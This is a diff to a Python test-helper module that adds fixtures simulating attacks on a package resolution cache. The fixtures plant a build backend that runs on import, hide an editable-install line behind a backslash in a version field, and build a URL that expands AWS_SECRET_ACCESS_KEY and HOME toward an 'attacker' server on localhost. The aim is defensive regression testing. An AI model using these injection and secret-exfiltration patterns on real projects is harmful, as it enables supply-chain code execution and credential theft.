@@ -3,6 +3,7 @@ error, the command line in a subprocess. Fixtures are in ``conftest.py``; CDK he
 
 from __future__ import annotations
 
+import json
 import os
 import resource
 import subprocess
@@ -197,3 +198,38 @@ def uv_install(tmp_path: Path, requirements: str, *index_args: str) -> uv.Result
                    "--python-platform", ARM312.uv_python_platform, "--python-version", ARM312.python_version,
                    "-r", str(tmp_path / "pins.txt"), *index_args], tmp_path / "uv-cache")
 
+
+
+# -- a bucket writer's (or a local intruder's) planted resolution entries (issue 22) ---------------------------
+
+def planted_backend(folder: Path, marker: Path) -> None:
+    """A project in ``folder`` whose build backend creates ``marker`` as soon as anything imports it: if it
+    exists, some tool ran code that came from a store."""
+    write_files(folder, {
+        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+                          '[project]\nname = "planted"\nversion = "1.0"\n',
+        "backend.py": f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n",
+    })
+
+
+def plant_pins(entry: Path, **fields: str) -> None:
+    """Rewrite purepkg's pin in the resolution entry ``entry`` (a folder holding ``resolution.json``) with
+    ``fields`` (an attacker's text in a version, a wheel, a URL), and drop its hashes."""
+    path = entry / "resolution.json"
+    data = json.loads(path.read_text())
+    data["pins"] = [{"name": "purepkg", "version": "", "wheel": "", "url": "", "hashes": [], **fields}
+                    if pin["name"] == "purepkg" else pin for pin in data["pins"]]
+    os.chmod(path, 0o644)
+    path.write_text(json.dumps(data))
+
+
+def attack_fields(kind: str, entry: Path, marker: Path, port: int, unpacked: Path | None = None) -> dict[str, str]:
+    """One of the two HIGH attacks of issue 22 on the resolution entry ``entry`` (the fields for
+    :func:`plant_pins`). ``editable``: a comment line ending in a backslash that hides an editable install of a
+    folder planted in the entry (``planted_backend`` in ``entry/src``; ``unpacked``: where the reader's store
+    would hold the entry, ``entry`` itself for a local plant). ``secret-url``: a direct URL that uv would expand
+    with the reader's secrets, on the attacker's server at ``port``."""
+    if kind == "editable":
+        planted_backend(entry / "src", marker)
+        return {"version": f"1.0 # planted \\\n-e {unpacked or entry}/src\n#"}
+    return {"url": f"http://127.0.0.1:{port}/x/${{AWS_SECRET_ACCESS_KEY}}/${{HOME}}/purepkg-1.0-py3-none-any.whl"}
